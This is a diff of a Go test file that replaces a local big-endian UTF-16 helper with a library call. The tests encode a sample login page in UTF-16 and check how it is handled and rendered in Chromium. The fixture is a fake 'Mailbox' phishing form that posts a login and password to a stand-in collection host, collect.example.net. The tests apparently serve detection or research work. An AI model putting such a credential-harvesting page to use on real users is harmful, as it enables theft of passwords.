@@ -14,18 +14,9 @@ import (
 
 const utf16Login = `<html><body><h1>Mailbox</h1><form method="post" action="https://collect.example.net/p"><input name="login"><input type="password" name="pw"><button>Next</button></form></body></html>`
 
-// utf16BE is s as big-endian UTF-16.
-func utf16BE(s string) []byte {
-	b := cryptkeys.UTF16LE(s)
-	for i := 0; i+1 < len(b); i += 2 {
-		b[i], b[i+1] = b[i+1], b[i]
-	}
-	return b
-}
-
 func TestUTF16Page(t *testing.T) {
 	le := append([]byte("\xff\xfe"), cryptkeys.UTF16LE(utf16Login)...)
-	be := append([]byte("\xfe\xff"), utf16BE(utf16Login)...)
+	be := append([]byte("\xfe\xff"), cryptkeys.UTF16BE(utf16Login)...)
 	for _, c := range []struct {
 		name, file, declared string
 		data                 []byte
@@ -79,7 +70,7 @@ func TestUTF16PageInChromium(t *testing.T) {
 		shown bool
 	}{
 		{"le.html", append([]byte("\xff\xfe"), cryptkeys.UTF16LE(utf16Login)...), true},
-		{"be.html", append([]byte("\xfe\xff"), utf16BE(utf16Login)...), true},
+		{"be.html", append([]byte("\xfe\xff"), cryptkeys.UTF16BE(utf16Login)...), true},
 		{"nomark.html", cryptkeys.UTF16LE(utf16Login), false},
 	} {
 		path := filepath.Join(dir, c.name)
